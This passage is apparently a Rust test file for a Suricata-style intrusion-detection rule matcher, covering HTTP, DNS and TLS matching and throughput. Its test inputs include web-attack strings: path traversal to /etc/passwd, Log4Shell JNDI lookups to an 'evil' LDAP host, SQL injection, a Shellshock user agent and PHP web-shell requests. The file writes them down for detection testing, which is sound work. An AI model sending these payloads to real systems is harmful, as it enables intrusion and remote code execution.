use std::{
    collections::BTreeSet,
    net::SocketAddr,
    time::{Duration, Instant},
};

use simple_dns::{CLASS, Name, Packet, Question, TYPE};

use super::*;
use crate::payload::{
    excerpt::MAX_EXCERPT,
    rules::{default_rules, parse_rules},
};

const CLIENT: &str = "198.51.100.7:40000";
const SERVER: &str = "192.0.2.10:80";

fn matcher(text: &str) -> Matcher {
    let set = parse_rules(text, "t.rules");
    assert_eq!(set.errors, vec![]);
    Matcher::new(&set.rules).unwrap()
}

fn defaults() -> Matcher {
    Matcher::new(&default_rules().rules).unwrap()
}

fn addr(s: &str) -> SocketAddr {
    s.parse().unwrap()
}

fn tcp<'a>(src: &str, dst: &str, payload: &'a [u8]) -> Inspected<'a> {
    Inspected::parse(Transport::Tcp, addr(src), addr(dst), payload)
}

fn udp<'a>(src: &str, dst: &str, payload: &'a [u8]) -> Inspected<'a> {
    Inspected::parse(Transport::Udp, addr(src), addr(dst), payload)
}

fn http(payload: &[u8]) -> Inspected<'_> {
    tcp(CLIENT, SERVER, payload)
}

fn dns_query(name: &str) -> Vec<u8> {
    let mut packet = Packet::new_query(7);
    packet.questions.push(Question::new(
        Name::new_unchecked(name),
        TYPE::A.into(),
        CLASS::IN.into(),
        false,
    ));
    packet.build_bytes_vec().unwrap()
}

fn sids(m: &Matcher, pkt: &Inspected<'_>) -> Vec<u32> {
    let mut sids: Vec<u32> = m.matches(pkt).iter().map(|m| m.sid).collect();
    sids.sort_unstable();
    sids
}

#[test]
fn curl_with_a_cmd_exe_user_agent_matches_sid_1000001() {
    // What `curl -H "User-Agent: cmd.exe" http://192.0.2.10/` sends.
    let payload =
        b"GET / HTTP/1.1\r\nHost: 192.0.2.10\r\nUser-Agent: cmd.exe\r\nAccept: */*\r\n\r\n";
    let matches = defaults().matches(&http(payload));
    let ua = matches
        .iter()
        .find(|m| m.sid == 1_000_001)
        .expect("sid 1000001");
    assert_eq!(ua.msg, "cmd.exe in User-Agent");
    assert_eq!(ua.rev, 1);
    assert_eq!(ua.classtype.as_deref(), Some("web-application-attack"));
    assert_eq!(ua.priority, 1);
    assert_eq!(ua.buffer, "http.user_agent");
    assert_eq!(ua.offset, 0);
    assert_eq!(ua.excerpt, "cmd.exe");
    // The header-wide rule sees it too, with its context.
    let header = matches
        .iter()
        .find(|m| m.sid == 1_000_002)
        .expect("sid 1000002");
    assert_eq!(header.buffer, "http.header");
    assert!(
        header.excerpt.contains("User-Agent: cmd.exe\\x0d\\x0a"),
        "{}",
        header.excerpt
    );
    assert_eq!(matches.len(), 2, "{matches:#?}");
}

#[test]
fn default_rules_catch_the_usual_web_attacks_and_not_ordinary_requests() {
    let m = defaults();
    let cases: &[(&[u8], u32)] = &[
        (b"GET /../../etc/passwd HTTP/1.1\r\n\r\n", 1_000_010),
        (b"GET /a/%2e%2e%2fetc%2fpasswd HTTP/1.1\r\n\r\n", 1_000_012),
        (b"GET /?x=${jndi:ldap://evil/a} HTTP/1.1\r\n\r\n", 1_000_020),
        (
            b"GET / HTTP/1.1\r\nX-Api-Version: ${JNDI:ldap://evil/a}\r\n\r\n",
            1_000_021,
        ),
        (
            b"GET /item.php?id=1+UNION+SELECT+password HTTP/1.1\r\n\r\n",
            1_000_030,
        ),
        (
            b"GET /login.php?user=admin%27%20or%201=1-- HTTP/1.1\r\n\r\n",
            1_000_032,
        ),
        (b"GET /p?id=1%20and%20SLEEP(5) HTTP/1.1\r\n\r\n", 1_000_034),
        (b"GET /p?id=%2527 HTTP/1.1\r\n\r\n", 1_000_040),
        (b"GET /uploads/c99.php HTTP/1.1\r\n\r\n", 1_000_050),
        (b"GET /shell.php?cmd=id HTTP/1.1\r\n\r\n", 1_000_056),
        (
            b"GET / HTTP/1.1\r\nUser-Agent: () { :; }; /bin/sh -c id\r\n\r\n",
            1_000_003,
        ),
        (
            b"POST /x.php HTTP/1.1\r\n\r\n<?php eval(base64_decode('aWQ='));",
            1_000_055,
        ),
    ];
    for (payload, sid) in cases {
        let got = sids(&m, &http(payload));
        assert!(
            got.contains(sid),
            "{} → {got:?}, want {sid}",
            String::from_utf8_lossy(payload)
        );
    }
    let ordinary: &[&[u8]] = &[
        b"GET /index.html HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: text/html\r\n\r\n",
        b"GET /search?q=union+station+hours&lang=en HTTP/1.1\r\nHost: example.com\r\n\r\n",
        b"POST /api/v1/items HTTP/1.1\r\nHost: example.com\r\nContent-Type: application/json\r\n\r\n{\"a\":1}",
    ];
    for payload in ordinary {
        assert_eq!(
            sids(&m, &http(payload)),
            Vec::<u32>::new(),
            "{}",
            String::from_utf8_lossy(payload)
        );
    }
}

#[test]
fn nocase_and_exact_contents() {
    let m = matcher(
        r#"alert tcp any any -> any any (content:"CMD.EXE"; nocase; sid:1;)
alert tcp any any -> any any (content:"CMD.EXE"; sid:2;)
alert tcp any any -> any any (content:"cmd.exe"; sid:3;)"#,
    );
    assert_eq!(sids(&m, &http(b"run cmd.exe now")), vec![1, 3]);
    assert_eq!(sids(&m, &http(b"run CMD.EXE now")), vec![1, 2]);
    assert_eq!(sids(&m, &http(b"run Cmd.Exe now")), vec![1]);
    // An exact content found at its second, differently-cased occurrence.
    assert_eq!(sids(&m, &http(b"CMD.EXE then cmd.exe")), vec![1, 2, 3]);
}

#[test]
fn depth_and_offset_bound_where_a_content_may_be() {
    let m = matcher(
        r#"alert tcp any any -> any any (content:"GET"; offset:2; depth:3; sid:1;)
alert tcp any any -> any any (content:"GET"; offset:3; sid:2;)
alert tcp any any -> any any (content:"GET"; depth:4; sid:3;)
alert tcp any any -> any any (content:"GET"; depth:5; sid:4;)
alert tcp any any -> any any (content:"GET"; offset:6; sid:5;)"#,
    );
    assert_eq!(sids(&m, &tcp(CLIENT, SERVER, b"xxGETyy")), vec![1, 4]);
    // A later occurrence satisfies the offset the first one does not.
    assert_eq!(
        sids(&m, &tcp(CLIENT, SERVER, b"xxGETyyGET")),
        vec![1, 2, 4, 5]
    );
}

#[test]
fn sticky_buffers_select_what_is_matched() {
    let m = matcher(
        r#"alert http any any -> any any (http.user_agent; content:"evil"; sid:1;)
alert http any any -> any any (http.uri; content:"evil"; sid:2;)
alert http any any -> any any (http.uri; content:"/a b"; sid:3;)
alert http any any -> any any (http.uri.raw; content:"/a%20b"; sid:4;)
alert http any any -> any any (http.host; content:"victim.example"; sid:5;)
alert http any any -> any any (http.method; content:"POST"; depth:4; sid:6;)
alert http any any -> any any (http.header; content:"X-Evil: 1|0d 0a|"; sid:7;)
alert tcp any any -> any any (content:"evil"; sid:8;)
alert dns any any -> any any (dns.query; content:"evil"; sid:9;)"#,
    );
    assert_eq!(sids(&m, &http(b"GET /evil HTTP/1.1\r\n\r\n")), vec![2, 8]);
    assert_eq!(
        sids(&m, &http(b"GET / HTTP/1.1\r\nUser-Agent: evil\r\n\r\n")),
        vec![1, 8]
    );
    assert_eq!(sids(&m, &http(b"GET /a%20b HTTP/1.1\r\n\r\n")), vec![3, 4]);
    assert_eq!(
        sids(
            &m,
            &http(b"POST / HTTP/1.1\r\nHost: VICTIM.example:8080\r\nX-Evil: 1\r\n\r\n")
        ),
        vec![5, 6, 7]
    );

    let query = dns_query("evil.example.com");
    let pkt = udp("10.0.0.2:5353", "10.0.0.1:53", &query);
    let matches = m.matches(&pkt);
    let got: Vec<_> = matches
        .iter()
        .map(|m| (m.sid, m.buffer, m.offset))
        .collect();
    // sid 8 is a tcp rule.
    assert_eq!(got, vec![(9, "dns.query", 0)]);
    assert_eq!(matches[0].excerpt, "evil.example.com");
}

#[test]
fn every_content_of_a_rule_must_match() {
    let m = matcher(
        r#"alert http any any -> any any (http.method; content:"POST"; http.uri; content:".php"; http.header; content:"multipart"; nocase; sid:1;)"#,
    );
    let upload = b"POST /up.php HTTP/1.1\r\nContent-Type: Multipart/form-data\r\n\r\n";
    let matches = m.matches(&http(upload));
    assert_eq!(matches.len(), 1);
    // The buffer and offset are those of the first content.
    assert_eq!((matches[0].buffer, matches[0].offset), ("http.method", 0));
    assert!(
        m.matches(&http(
            b"GET /up.php HTTP/1.1\r\nContent-Type: multipart/x\r\n\r\n"
        ))
        .is_empty()
    );
    assert!(
        m.matches(&http(
            b"POST /up.asp HTTP/1.1\r\nContent-Type: multipart/x\r\n\r\n"
        ))
        .is_empty()
    );
}

#[test]
fn protocols_addresses_ports_and_direction_filter_rules() {
    let m = matcher(
        r#"alert tcp any any -> any 80 (content:"x"; sid:1;)
alert tcp any any -> any ![80,443] (content:"x"; sid:2;)
alert tcp 198.51.100.0/24 any -> 192.0.2.10 any (content:"x"; sid:3;)
alert tcp !198.51.100.0/24 any -> any any (content:"x"; sid:4;)
alert tcp 192.0.2.10 80 <> 198.51.100.7 any (content:"x"; sid:5;)
alert tcp any any -> any 1024: (content:"x"; sid:6;)
alert udp any any -> any any (content:"x"; sid:7;)
alert http any any -> any any (content:"x"; sid:8;)
alert tcp 2001:db8::/32 any -> any any (content:"x"; sid:9;)"#,
    );
    assert_eq!(sids(&m, &tcp(CLIENT, SERVER, b"x")), vec![1, 3, 5]);
    // The reply: only `<>` and the rules not tied to the client match.
    assert_eq!(sids(&m, &tcp(SERVER, CLIENT, b"x")), vec![2, 4, 5, 6]);
    assert_eq!(
        sids(&m, &tcp("203.0.113.1:5000", "192.0.2.10:8080", b"x")),
        vec![2, 4, 6]
    );
    assert_eq!(sids(&m, &udp(CLIENT, SERVER, b"x")), vec![7]);
    assert_eq!(
        sids(&m, &http(b"GET /x HTTP/1.1\r\n\r\n")),
        vec![1, 3, 5, 8]
    );
    assert_eq!(
        sids(&m, &tcp("[2001:db8::1]:5000", "[2001:db8::2]:22", b"x")),
        vec![2, 4, 9]
    );
}

#[test]
fn overlapping_and_shared_contents_all_match() {
    let m = matcher(
        r#"alert tcp any any -> any any (content:"cmd"; sid:1;)
alert tcp any any -> any any (content:"cmd.exe"; sid:2;)
alert tcp any any -> any any (content:"md.e"; sid:3;)
alert tcp any any -> any any (content:"cmd.exe"; nocase; sid:4;)
alert tcp any any -> any any (content:"cmd"; content:"exe"; sid:5;)"#,
    );
    assert_eq!(
        sids(&m, &tcp(CLIENT, SERVER, b"cmd.exe")),
        vec![1, 2, 3, 4, 5]
    );
}

#[test]
fn results_are_ordered_by_priority_then_sid() {
    let m = matcher(
        r#"alert tcp any any -> any any (content:"a"; sid:5; priority:3;)
alert tcp any any -> any any (content:"a"; sid:9; priority:1;)
alert tcp any any -> any any (content:"a"; sid:2; priority:3;)"#,
    );
    let order: Vec<_> = m
        .matches(&tcp(CLIENT, SERVER, b"a"))
        .iter()
        .map(|m| m.sid)
        .collect();
    assert_eq!(order, vec![9, 2, 5]);
}

#[test]
fn excerpts_are_escaped_and_bounded() {
    let m =
        matcher(r#"alert http any any -> any any (http.user_agent; content:"<script>"; sid:1;)"#);
    let payload = b"GET / HTTP/1.1\r\nUser-Agent: \x01\x02<script>alert(1)</script>\xff\r\n\r\n";
    let matches = m.matches(&http(payload));
    assert_eq!(matches[0].excerpt, r"\x01\x02<script>alert(1)</script>\xff");
    assert_eq!(matches[0].offset, 2);

    let long = [
        b"GET / HTTP/1.1\r\nUser-Agent: ".to_vec(),
        vec![0u8; 2000],
        b"<script>".to_vec(),
        vec![7u8; 2000],
        b"\r\n\r\n".to_vec(),
    ]
    .concat();
    let matches = m.matches(&http(&long));
    assert!(matches[0].excerpt.len() <= MAX_EXCERPT);
    assert!(matches[0].excerpt.contains("<script>"));
    assert_eq!(matches[0].offset, 2000);
}

/// `n` rules over several buffers, some nocase, some sharing contents.
fn generated_rules(n: usize) -> String {
    let mut text = String::new();
    for i in 0..n {
        let sid = 2_000_000 + i;
        let rule = match i % 5 {
            0 => format!(r#"alert tcp any any -> any any (content:"tok{i:04}x"; sid:{sid};)"#),
            1 => format!(
                r#"alert http any any -> any any (http.uri; content:"/TOK{i:04}"; nocase; sid:{sid};)"#
            ),
            2 => format!(
                r#"alert http any any -> any any (http.header; content:"X-T: tok{i:04}"; sid:{sid};)"#
            ),
            3 => format!(
                r#"alert dns any any -> any any (dns.query; content:"tok{i:04}."; sid:{sid};)"#
            ),
            // Shares its content with the rule before the previous one
            // (`i - 2` is a header rule when `i % 5 == 4`).
            _ => format!(
                r#"alert http any any -> any any (http.header; content:"X-T: tok{:04}"; http.uri; content:"/"; sid:{sid};)"#,
                i - 2
            ),
        };
        text.push_str(&rule);
        text.push('\n');
    }
    text
}

#[test]
fn a_thousand_rules_match_exactly_in_one_pass() {
    let m = matcher(&generated_rules(1000));
    assert_eq!(m.rules().len(), 1000);

    // Raw payload with a few pkt_data tokens (i % 5 == 0), one in upper case
    // (those rules are case-sensitive: no match).
    let raw = b"xx tok0005x yy tok0500x TOK0010X tok0995x";
    assert_eq!(
        sids(&m, &tcp(CLIENT, "192.0.2.10:9999", raw)),
        vec![2_000_005, 2_000_500, 2_000_995]
    );

    // HTTP: a nocase URI token, a header token shared by two rules, and the
    // pkt_data rules see the raw request too.
    let req = b"GET /tok0011/Tok0996 HTTP/1.1\r\nX-T: tok0002\r\nX-T: tok0997\r\n\r\ntok0100x";
    let want: BTreeSet<u32> = [11, 996, 2, 4, 997, 999, 100]
        .iter()
        .map(|i| 2_000_000 + i)
        .collect();
    let got: BTreeSet<u32> = sids(&m, &http(req)).into_iter().collect();
    assert_eq!(got, want);

    let query = dns_query("tok0003.tok0998.example.com");
    let pkt = udp("10.0.0.2:40000", "10.0.0.1:53", &query);
    assert_eq!(sids(&m, &pkt), vec![2_000_003, 2_000_998]);
}

/// Benchmark figures, in the format `cargo xtask bench` collects.
#[path = "../../../tests/support/figures.rs"]
#[allow(
    dead_code,
    reason = "shared with the integration tests, which use all of it"
)]
mod figures;

/// Samples/s through `m`: parsed and matched, and matched only (the
/// samples parsed beforehand); and the matches found.
fn throughput(m: &Matcher) -> (f64, f64, usize) {
    let queries: Vec<Vec<u8>> = [
        "www.example.com",
        "tok0003.cdn.example.net",
        "x7f3k2j9q8w.tunnel.example.org",
    ]
    .iter()
    .map(|n| dns_query(n))
    .collect();
    let mut raw = vec![0u8; 1200];
    for (i, b) in raw.iter_mut().enumerate() {
        *b = (i * 31 % 251) as u8;
    }
    let hello = crate::payload::tls::tests::client_hello("www.example.com", &[0x0304]);
    let leaf = crate::payload::tls_server::tests::certificate("www.example.com", "Example", &[7]);
    let flight = crate::payload::tls_server::tests::server_flight(&[&leaf]);
    let samples: Vec<(Transport, &str, &str, &[u8])> = vec![
        (Transport::Tcp, CLIENT, SERVER, b"GET /index.html HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\nAccept: text/html,application/xhtml+xml\r\nAccept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n\r\n"),
        (Transport::Tcp, CLIENT, SERVER, b"GET /item.php?id=1+UNION+SELECT+password+FROM+users HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: sqlmap/1.8\r\n\r\n"),
        (Transport::Tcp, CLIENT, SERVER, b"POST /api/v1/items HTTP/1.1\r\nHost: example.com\r\nContent-Type: application/json\r\nContent-Length: 120\r\n\r\n{\"name\":\"widget\",\"tags\":[\"a\",\"b\",\"c\"],\"price\":12.5,\"description\":\"an ordinary request body of moderate length\"}"),
        (Transport::Tcp, SERVER, CLIENT, b"HTTP/1.1 200 OK\r\nServer: nginx/1.24.0\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: 160\r\nConnection: keep-alive\r\n\r\n<!DOCTYPE html><html><head><title>Example</title><script src=\"/static/app.js\"></script></head><body><p>An ordinary page of moderate length.</p></body></html>"),
        (Transport::Udp, "10.0.0.2:40000", "10.0.0.1:53", &queries[0]),
        (Transport::Udp, "10.0.0.2:40000", "10.0.0.1:53", &queries[1]),
        (Transport::Udp, "10.0.0.2:40000", "10.0.0.1:53", &queries[2]),
        (Transport::Tcp, "10.0.0.2:40000", "10.0.0.1:443", &raw),
        (Transport::Tcp, "10.0.0.2:40001", "203.0.113.1:443", &hello),
        (Transport::Tcp, "203.0.113.1:443", "10.0.0.2:40001", &flight),
        (Transport::Udp, "10.0.0.2:40000", "10.0.0.1:4500", &raw[..400]),
    ];
    let samples: Vec<_> = samples
        .into_iter()
        .map(|(t, s, d, p)| (t, addr(s), addr(d), p))
        .collect();
    // Each with the flow table's view, as the kernel gives it, so that raw
    // `tcp`/`udp` rules with `flow` are checked too.
    let parse = |t, s: SocketAddr, d: SocketAddr, p| {
        use nta_common::maps::sample_flow::{ESTABLISHED, TO_CLIENT, TO_SERVER};
        let way = if s.port() < d.port() {
            TO_CLIENT
        } else {
            TO_SERVER
        };
        Inspected {
            flow: way | ESTABLISHED,
            ..Inspected::parse(t, s, d, p)
        }
    };
    let measure = |parse_each: bool| {
        let parsed: Vec<Inspected<'_>> = samples
            .iter()
            .map(|&(t, s, d, p)| parse(t, s, d, p))
            .collect();
        let start = Instant::now();
        let mut n = 0u64;
        let mut hits = 0usize;
        while start.elapsed() < Duration::from_secs(2) {
            for (i, &(t, s, d, p)) in samples.iter().enumerate() {
                hits += if parse_each {
                    m.matches(&parse(t, s, d, p)).len()
                } else {
                    m.matches(&parsed[i]).len()
                };
                n += 1;
            }
        }
        (n as f64 / start.elapsed().as_secs_f64(), hits)
    };
    let (with_parse, hits) = measure(true);
    let (match_only, _) = measure(false);
    (with_parse, match_only, hits)
}

/// Run with `cargo test -p nta-agent --lib matcher_throughput -- --ignored --nocapture`.
#[test]
#[ignore = "a measurement, not a check"]
fn matcher_throughput() {
    let mut set = default_rules();
    set.merge(parse_rules(&generated_rules(1000), "generated.rules"));
    assert_eq!(set.errors, vec![]);
    let m = Matcher::new(&set.rules).unwrap();
    let (with_parse, match_only, hits) = throughput(&m);
    println!(
        "matcher_throughput: {} rules, prefilter {} KiB: {with_parse:.0} samples/s \
         parse+match, {match_only:.0} samples/s match only ({hits} matches)",
        m.rules().len(),
        m.prefilter_bytes() / 1024
    );
    let rules = m.rules().len();
    figures::record(
        "payload pipeline",
        &format!("parse + match, {rules} rules"),
        with_parse,
        "samples/s",
        None,
        "HTTP and DNS parsing and one Aho-Corasick pass per buffer, one core",
    );
    figures::record(
        "payload pipeline",
        &format!("match only, {rules} rules"),
        match_only,
        "samples/s",
        None,
        "",
    );
    et_open_throughput();
    let big = Matcher::new(&parse_rules(&generated_rules(25_000), "big.rules").rules).unwrap();
    println!(
        "matcher_throughput: prefilter for {} generated rules: {} KiB",
        big.rules().len(),
        big.prefilter_bytes() / 1024
    );
}

/// Suricata's relative matching: `distance`/`within` count from the end of
/// the previous content's match, and a later occurrence of that content is
/// tried when the relative one fails after the first.
#[test]
fn relative_contents_follow_the_previous_match_and_backtrack() {
    let m = matcher(
        r#"alert tcp any any -> any any (content:"id="; content:"42"; distance:0; within:4; sid:1;)
alert tcp any any -> any any (content:"id="; content:"42"; distance:2; within:2; sid:2;)
alert tcp any any -> any any (content:"ab"; content:"cd"; distance:-4; within:4; sid:3;)"#,
    );
    // The first `id=` is followed by 7, the second by 42: found by backtracking.
    assert_eq!(sids(&m, &tcp(CLIENT, SERVER, b"id=7&id=42")), vec![1]);
    assert_eq!(sids(&m, &tcp(CLIENT, SERVER, b"id=xx42")), vec![1, 2]);
    assert_eq!(
        sids(&m, &tcp(CLIENT, SERVER, b"id=xxxxx42")),
        Vec::<u32>::new()
    );
    // A negative distance looks back: `cd` right before `ab`'s end.
    assert_eq!(sids(&m, &tcp(CLIENT, SERVER, b"cdab")), vec![3]);
}

#[test]
fn startswith_endswith_negation_and_bsize_bound_the_match() {
    let m = matcher(
        r#"alert http any any -> any any (http.uri; content:"/admin"; startswith; sid:1;)
alert http any any -> any any (http.uri; content:".php"; endswith; sid:2;)
alert http any any -> any any (http.uri; content:"/x"; content:!"safe"; distance:0; sid:3;)
alert http any any -> any any (http.uri; content:"/y"; bsize:<6; sid:4;)"#,
    );
    let get = |uri: &str| format!("GET {uri} HTTP/1.1\r\nHost: a\r\n\r\n").into_bytes();
    assert_eq!(sids(&m, &http(&get("/admin/a.php"))), vec![1, 2]);
    assert_eq!(sids(&m, &http(&get("/a/admin.php?x"))), Vec::<u32>::new());
    assert_eq!(sids(&m, &http(&get("/x/evil"))), vec![3]);
    assert_eq!(sids(&m, &http(&get("/x/safe"))), Vec::<u32>::new());
    assert_eq!(sids(&m, &http(&get("/y/a"))), vec![4]);
    assert_eq!(sids(&m, &http(&get("/y/abc"))), Vec::<u32>::new());
}

/// `dsize` bounds the packet's payload length, which may exceed what was
/// sampled; a stream's bytes put in order are no packet and never match.
#[test]
fn dsize_bounds_the_packets_payload_not_a_streams() {
    let m = matcher(
        r#"alert tcp any any -> any any (content:"ab"; dsize:<10; sid:1;)
alert tcp any any -> any any (content:"ab"; dsize:100<>2000; sid:2;)"#,
    );
    let packet = |len: usize| {
        let mut p = tcp(CLIENT, SERVER, b"abcd");
        p.dsize = Some(len);
        p
    };
    assert_eq!(sids(&m, &packet(4)), vec![1]);
    assert_eq!(sids(&m, &packet(10)), Vec::<u32>::new());
    // A 1 400-byte payload sampled in part.
    assert_eq!(sids(&m, &packet(1400)), vec![2]);
    assert_eq!(sids(&m, &tcp(CLIENT, SERVER, b"abcd")), Vec::<u32>::new());
    let set = parse_rules(
        r#"alert tcp any any -> any any (content:"a"; dsize:1; dsize:2; sid:1;)"#,
        "t.rules",
    );
    assert!(
        set.errors[0].to_string().contains("dsize"),
        "{:?}",
        set.errors
    );
}

/// HTTP is told by its request line on any port, 53 too; DNS over TCP on
/// port 53 is still DNS.
#[test]
fn http_from_port_53_is_http_and_dns_over_tcp_is_dns() {
    let m = matcher(
        r#"alert http any any -> any any (http.uri; content:"images.gif"; sid:1;)
alert dns any any -> any any (dns.query; content:"example.org"; sid:2;)"#,
    );
    let request = b"GET /images.gif HTTP/1.1\r\nHost: a\r\n\r\n";
    let from_53 = tcp("192.0.2.5:53", "192.0.2.1:80", request);
    assert!(from_53.http.is_some() && from_53.dns.is_none());
    assert_eq!(sids(&m, &from_53), vec![1]);
    let query = dns_query("www.example.org");
    let mut framed = u16::try_from(query.len()).unwrap().to_be_bytes().to_vec();
    framed.extend_from_slice(&query);
    let over_tcp = tcp(CLIENT, "192.0.2.10:53", &framed);
    assert!(over_tcp.http.is_none());
    assert_eq!(sids(&m, &over_tcp), vec![2]);
}

/// Rules with nothing to prefilter on — only a negated content, only
/// `pcre` — are checked on every sample of their protocol, and shown at
/// the start of their buffer when no content matched.
#[test]
fn rules_without_a_fast_pattern_are_checked_on_every_sample() {
    let m = matcher(
        r#"alert http any any -> any any (http.uri; content:!"/index"; sid:1;)
alert http any any -> any any (http.uri; pcre:"/^\/a[0-9]+$/"; sid:2;)
alert tcp any any -> any 80 (content:!"GET"; depth:3; sid:3;)"#,
    );
    let get = |uri: &str| format!("GET {uri} HTTP/1.1\r\nHost: a\r\n\r\n").into_bytes();
    assert_eq!(sids(&m, &http(&get("/a12"))), vec![1, 2]);
    assert_eq!(sids(&m, &http(&get("/index.html"))), Vec::<u32>::new());
    let all = m.matches(&http(&get("/b")));
    assert_eq!(all.len(), 1);
    assert_eq!(
        (all[0].sid, all[0].buffer, all[0].offset),
        (1, "http.uri", 0)
    );
    // A raw rule on its port, whatever the payload holds, unless it
    // starts with GET.
    assert_eq!(sids(&m, &tcp(CLIENT, SERVER, b"\x16\x03\x01")), vec![3]);
}

/// The prefilter looks for the `fast_pattern` content, not the longest: a
/// rule is still checked whole.
#[test]
fn the_fast_pattern_is_the_one_marked() {
    let m = matcher(
        r#"alert tcp any any -> any any (content:"a-long-common-prefix"; content:"zq"; fast_pattern; sid:1;)"#,
    );
    assert_eq!(
        sids(&m, &tcp(CLIENT, SERVER, b"a-long-common-prefix zq")),
        vec![1]
    );
    assert_eq!(
        sids(&m, &tcp(CLIENT, SERVER, b"a-long-common-prefix")),
        Vec::<u32>::new()
    );
    // The choice itself: the marked content; else the longest one not
    // negated and not a `pcre`, the first of equals.
    let chosen = |text: &str| {
        let set = parse_rules(text, "t.rules");
        assert_eq!(set.errors, vec![]);
        fast_pattern(&set.rules[0]).map(|c| c.bytes.clone())
    };
    assert_eq!(
        chosen(
            r#"alert tcp any any -> any any (content:"a-long-common-prefix"; content:"zq"; fast_pattern; sid:1;)"#
        ),
        Some(b"zq".to_vec())
    );
    assert_eq!(
        chosen(
            r#"alert tcp any any -> any any (content:"ab"; content:!"a-longer-negation"; pcre:"/a-much-longer-pattern/"; content:"cd"; sid:1;)"#
        ),
        Some(b"ab".to_vec())
    );
}

/// `dotprefix` on `dns.query` as ET writes it: the domain and its
/// subdomains, not a name that merely ends the same.
#[test]
fn dotprefix_matches_a_domain_and_its_subdomains_only() {
    let m = matcher(
        r#"alert dns any any -> any any (dns.query; dotprefix; content:".evil.example"; nocase; endswith; sid:1;)"#,
    );
    let client = "198.51.100.7:5353";
    let server = "192.0.2.53:53";
    for (name, hit) in [
        ("evil.example", true),
        ("www.EVIL.example", true),
        ("notevil.example", false),
        ("evil.example.org", false),
    ] {
        let query = dns_query(name);
        let found = !sids(&m, &udp(client, server, &query)).is_empty();
        assert_eq!(found, hit, "{name}");
    }
}

/// `flow:to_server` on a DNS rule is the query, `to_client` the answer.
#[test]
fn dns_flow_direction_is_the_messages() {
    let m = matcher(
        r#"alert dns any any -> any any (flow:to_server; dns.query; content:"q.example"; sid:1;)
alert dns any any -> any any (flow:to_client; dns.query; content:"q.example"; sid:2;)"#,
    );
    let mut query = dns_query("q.example");
    let client = "198.51.100.7:5353";
    let server = "192.0.2.53:53";
    assert_eq!(sids(&m, &udp(client, server, &query)), vec![1]);
    query[2] |= 0x80; // QR: a response, questions echoed
    assert_eq!(sids(&m, &udp(server, client, &query)), vec![2]);
}

#[test]
fn tls_sni_rules_match_the_client_hello() {
    let m = matcher(
        r#"alert tls any any -> any any (flow:established,to_server; tls.sni; content:"bad.example"; endswith; nocase; sid:1;)"#,
    );
    let hello = crate::payload::tls::tests::client_hello("www.Bad.Example", &[0x0304]);
    assert_eq!(sids(&m, &tcp(CLIENT, "192.0.2.10:443", &hello)), vec![1]);
    let other = crate::payload::tls::tests::client_hello("good.example", &[0x0304]);
    assert_eq!(
        sids(&m, &tcp(CLIENT, "192.0.2.10:443", &other)),
        Vec::<u32>::new()
    );
}

/// A rule of many relative contents over a buffer full of their first
/// bytes stops after a bounded number of steps.
#[test]
fn backtracking_is_bounded() {
    let rule = format!(
        "alert tcp any any -> any any ({} content:\"b\"; distance:0; sid:1;)",
        "content:\"a\"; distance:0; ".repeat(20)
    );
    let m = matcher(&rule);
    let payload = vec![b'a'; 1400];
    let start = Instant::now();
    assert_eq!(sids(&m, &tcp(CLIENT, SERVER, &payload)), Vec::<u32>::new());
    assert!(
        start.elapsed() < Duration::from_secs(1),
        "{:?}",
        start.elapsed()
    );
}

/// The same with every rule of Emerging Threats Open that loads, when the
/// ruleset is beside the project (`../shared/rulesets/`).
fn et_open_throughput() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../shared/rulesets/et-open-2024-04-21");
    let Ok(entries) = std::fs::read_dir(&dir) else {
        println!(
            "matcher_throughput: no ET Open ruleset at {}",
            dir.display()
        );
        return;
    };
    let mut files: Vec<_> = entries
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "rules"))
        .collect();
    files.sort();
    let started = Instant::now();
    let mut set = crate::payload::rules::RuleSet::default();
    for file in &files {
        set.merge(crate::payload::rules::load_file(file).unwrap());
    }
    let m = Matcher::new(&set.rules).unwrap();
    let load = started.elapsed();
    let (with_parse, match_only, hits) = throughput(&m);
    let rules = m.rules().len();
    println!(
        "matcher_throughput: ET Open, {rules} rules loaded in {load:.2?}, prefilter {} KiB: \
         {with_parse:.0} samples/s parse+match, {match_only:.0} match only ({hits} matches)",
        m.prefilter_bytes() / 1024
    );
    figures::record(
        "payload pipeline",
        &format!("parse + match, ET Open ({rules} rules)"),
        with_parse,
        "samples/s",
        Some(figures::Target::AtLeast(250_000.0)),
        "every ET Open rule that loads; HTTP request and response, DNS, TLS and raw samples, one core",
    );
    figures::record(
        "payload pipeline",
        &format!("ET Open load: parse {} files and compile", files.len()),
        load.as_secs_f64(),
        "s",
        Some(figures::Target::AtMost(10.0)),
        "",
    );
}

/// The request's other buffers, as Suricata builds them: the request line,
/// the version, header names, single headers, the body's first bytes.
#[test]
fn the_other_http_request_buffers_are_matched() {
    let m = matcher(
        r#"alert http any any -> any any (http.request_line; content:"POST /login HTTP/1.1"; startswith; endswith; sid:1;)
alert http any any -> any any (http.protocol; content:"HTTP/1.1"; bsize:8; sid:2;)
alert http any any -> any any (http.header_names; content:"|0d 0a|Host|0d 0a|Cookie|0d 0a|"; sid:3;)
alert http any any -> any any (content:"session=evil"; http_cookie; sid:4;)
alert http any any -> any any (http.content_type; content:"application/x-www-form-urlencoded"; sid:5;)
alert http any any -> any any (http.request_body; content:"user=admin"; startswith; sid:6;)
alert http any any -> any any (content:"pass="; http_client_body; content:"' or"; http_client_body; distance:0; sid:7;)
alert http any any -> any any (http.start; content:"|0d 0a 0d 0a|"; endswith; sid:8;)
alert http any any -> any any (http.request_body; content:"Host"; sid:9;)"#,
    );
    let request = b"POST /login HTTP/1.1\r\nHost: a\r\nCookie: session=evil\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nuser=admin&pass=' or 1=1";
    assert_eq!(sids(&m, &http(request)), vec![1, 2, 3, 4, 5, 6, 7, 8]);
}

/// `isdataat` in the sequence (absolute, relative, negated) and `urilen`.
#[test]
fn isdataat_and_urilen_bound_where_data_is() {
    let m = matcher(
